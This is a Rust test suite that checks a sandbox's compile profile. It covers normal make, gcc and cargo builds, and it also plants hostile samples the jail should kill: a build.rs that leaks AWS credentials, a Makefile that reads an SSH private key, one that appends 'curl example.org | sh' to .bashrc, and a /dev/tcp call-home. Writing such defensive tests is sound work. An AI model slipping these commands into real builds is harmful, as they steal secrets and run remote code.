//! `compile`: gcc, make and cargo, on what the workspace holds.

use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::Instant;

use turnkey_expectations::expected;
use turnkey_tests::{Ran, Run, outside};

use super::harm::{Harmful, reaches_nobody};
use super::{passed, under};

const MAKEFILE: &str = "CFLAGS = -O1 -Wall
answer: main.o libsum.a
\tgcc -o $@ main.o -L. -lsum
libsum.a: sum.o
\tar rcs $@ sum.o
check: answer
\t./answer
";
const MAIN: &str = "#include <stdio.h>
int sum(int, int);
int main(void) { printf(\"%d\\n\", sum(40, 2)); return 0; }";
const SUM: &str = "int sum(int a, int b) { return a + b; }";

#[test]
fn a_project_of_make_passes() {
    let run = under("compile").file("Makefile", MAKEFILE);
    let run = run.file("main.c", MAIN).file("sum.c", SUM);
    let ran = run.run(&["make", "--silent", "-j4", "check"]);
    passed(&ran, "42\n");
    ran.expect(
        !ran.directory.path().join("answer").exists(),
        "and is thrown away",
    );
}

#[test]
fn what_asks_the_compiler_for_features_passes() {
    // As scripts called configure do.
    let script = "set -e
for header in stdio.h no_such_header.h; do
    echo \"#include <$header>\" > conftest.c
    if gcc -fsyntax-only conftest.c 2> errors; then echo \"$header yes\"; else echo \"$header no\"; fi
done
echo 'int main(void) { return 7; }' > conftest.c && gcc -o conftest conftest.c
./conftest || echo \"ran $?\"
gcc -dumpmachine | cut -d- -f1";
    passed(
        &under("compile").shell(script),
        "stdio.h yes\nno_such_header.h no\nran 7\nx86_64\n",
    );
}

/// On a host of many CPUs, as many jobs or threads as it has are more than the jail may have tasks.
#[test]
fn what_sizes_itself_by_the_cpus_is_told_the_jails() {
    let threads = "#include <omp.h>\n#include <stdio.h>\nint main(void) { printf(\"%d\\n\", omp_get_max_threads()); }\n";
    let script = "gcc -fopenmp -o threads threads.c && ./threads && nproc";
    let (_, host) = outside("nproc", &[]);
    let host: u64 = host.trim().parse().unwrap();
    for (share, cpus) in [(100, 1), (150, 2)] {
        let run = under("compile").option(&format!("--cpu {share}%"));
        let cpus = host.min(cpus);
        let ran = run.file("threads.c", threads).shell(script);
        passed(&ran, &format!("{cpus}\n{cpus}\n"));
    }
    let own = under("compile").option("--cpu 100% --env OMP_NUM_THREADS=7");
    let ran = own.file("threads.c", threads).shell(script);
    ran.expect(ran.stdout.starts_with("7\n"), "the caller knows better");
}

/// The sanitizer of leaks takes its own process over by ptrace(2), for which a jail is killed.
#[test]
fn a_program_with_sanitizers_runs_to_its_end() {
    let program = "#include <stdlib.h>\nint main(int count, char **own) {\n    char *lost = malloc(count);\n    lost[0] = own[0][0];\n    return lost[count - 1] == 0;\n}";
    let script = "gcc -fsanitize=address,undefined lost.c && ./a.out && echo passed";
    passed(
        &under("compile").file("lost.c", program).shell(script),
        "passed\n",
    );
}

#[test]
fn a_shared_library_and_what_loads_it_pass() {
    let script = "set -e
gcc -shared -fPIC -O1 -g -o libsum.so sum.c && gcc -O1 -g -o answer main.c -L. -lsum
LD_LIBRARY_PATH=. ./answer && gcc -S -o - sum.c | grep -c globl";
    let run = under("compile").file("main.c", MAIN).file("sum.c", SUM);
    passed(&run.shell(script), "42\n1\n");
}

/// The toolchain that `cargo` stands for here: where rustup keeps it, in somebody's home.
fn toolchain() -> PathBuf {
    let (found, sysroot) = outside("rustc", &["--print", "sysroot"]);
    assert!(found.success(), "rustc is on the PATH");
    PathBuf::from(sysroot.trim()).join("bin")
}

fn cargo(run: Run, arguments: &[&str]) -> Ran {
    let mut command = run.command(&[&["cargo"], arguments].concat());
    let path = format!("{}:/usr/bin:/bin", toolchain().display());
    command
        .env("PATH", path)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let started = Instant::now();
    run.end(command.spawn().expect("turnkey can be started"), started)
}

fn package(main: &str) -> Run {
    let manifest = "[package]\nname = \"answer\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
                    [dependencies]\nsum = { path = \"sum\" }\n";
    let below = "[package]\nname = \"sum\"\nversion = \"0.1.0\"\nedition = \"2021\"\n";
    let run = under("compile");
    for folder in ["src", "sum/src"] {
        std::fs::create_dir_all(run.path().join(folder)).expect("a folder");
    }
    let library = "pub fn sum(a: u32, b: u32) -> u32 { a + b }\n#[test]\nfn adds() { assert_eq!(sum(1, 2), 3) }\n";
    run.file("Cargo.toml", manifest)
        .file("sum/Cargo.toml", below)
        .file("src/main.rs", main)
        .file("sum/src/lib.rs", library)
}

expected!(
    cargo_builds_and_tests_offline,
    a_build_script_of_cargo_that_takes_a_token_is_killed: not_on [ORDINARY_6_12],
    "this guest has no compiler of Rust: on 6.12 programs"
);
#[test]
fn cargo_builds_and_tests_offline() {
    let main = "fn main() { println!(\"{}\", sum::sum(40, 2)); }";
    passed(
        &cargo(package(main), &["run", "--quiet", "--offline"]),
        "42\n",
    );
    let ran = cargo(package(main), &["test", "--quiet", "--package", "sum"]);
    ran.expect_code(0);
    ran.expect(ran.stdout.contains("1 passed"), "the test ran");
    ran.expect(ran.at("/verdict") == "clean", "clean");
}

#[test]
fn a_build_script_of_cargo_that_takes_a_token_is_killed() {
    let main = "fn main() { println!(\"built\"); }";
    let script = "fn main() { println!(\"cargo:warning={}\", std::fs::read_to_string(\"/workspace/.aws/credentials\").unwrap().trim()); }";
    let with_token = |script: &str| {
        let run = package(main).file("build.rs", script);
        std::fs::create_dir(run.path().join(".aws")).expect("a folder");
        run.file(".aws/credentials", "the token\n")
    };
    // Outside the script reads it where the package lies.
    let outside = with_token(&script.replace("/workspace/", ""));
    let mut control = Command::new(toolchain().join("cargo"));
    control
        .args(["build", "--offline"])
        .current_dir(outside.path());
    control
        .env("RUSTC", toolchain().join("rustc"))
        .env_remove("CARGO_TARGET_DIR");
    let told = control.output().expect("cargo can be started").stderr;
    let told = String::from_utf8_lossy(&told).into_owned();
    assert!(told.contains("the token"), "the control: {told}");
    let ran = cargo(with_token(script), &["build", "--offline"]);
    super::killed_by(&ran, "stored-credential");
    ran.expect(!ran.stderr.contains("the token"), "it is not out");
}

fn makefile(recipe: &str) -> Harmful<'static> {
    Harmful {
        profile: "compile",
        command: &["make", "--silent"],
        files: vec![("Makefile", format!("all:\n\t{recipe}\n"))],
    }
}

#[test]
fn a_makefile_that_reads_a_key_is_killed() {
    makefile("@cat .ssh/id_ed25519; echo compiled")
        .reads_no_secret("the private key", "private-key");
}

#[test]
fn a_makefile_that_stays_in_the_shell_is_killed() {
    makefile("@echo 'curl example.org | sh' >> .bashrc").changes_no_startup_file(".bashrc");
}

#[test]
fn a_build_step_that_calls_home_reaches_nobody() {
    reaches_nobody("compile", &|port| {
        let rule = format!("$(shell exec 3<>/dev/tcp/127.0.0.1/{port})");
        let eval = format!("--eval=SHELL = /bin/bash\nall: ; @echo built{rule}");
        ["make", "--silent", "-f", "/dev/null", &eval, "all"]
            .map(str::to_owned)
            .to_vec()
    });
}
